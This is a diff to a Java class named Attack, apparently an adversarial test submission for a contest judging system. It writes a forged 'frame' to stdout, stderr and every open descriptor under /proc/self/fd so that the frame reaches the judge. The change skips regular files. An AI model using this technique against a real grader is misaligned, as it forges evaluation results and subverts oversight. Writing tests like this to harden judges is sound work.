@@ -1,6 +1,7 @@
 package cms;
 
 import java.io.*;
+import java.nio.file.*;
 
 final class Attack extends Hooks {
     void load() throws Exception {
@@ -9,10 +10,14 @@ final class Attack extends Hooks {
         new FileOutputStream(FileDescriptor.out).write(frame);
         new FileOutputStream(FileDescriptor.err).write(frame);
         for (int number = 0; number < 40; number++) {
-            try (OutputStream out = new FileOutputStream("/proc/self/fd/" + number)) {
-                out.write(frame);
-            } catch (IOException e) {
-                // Sockets and folders can't be opened that way.
+            Path open = Path.of("/proc/self/fd/" + number);
+            // A regular file leads to no judge, and is the JDK's or a jar, which whoever is root would spoil.
+            if (Files.exists(open) && !Files.isRegularFile(open)) {
+                try (OutputStream out = Files.newOutputStream(open, StandardOpenOption.WRITE)) {
+                    out.write(frame);
+                } catch (IOException e) {
+                    // Sockets and folders can't be opened that way.
+                }
             }
         }
         tell("wrote");
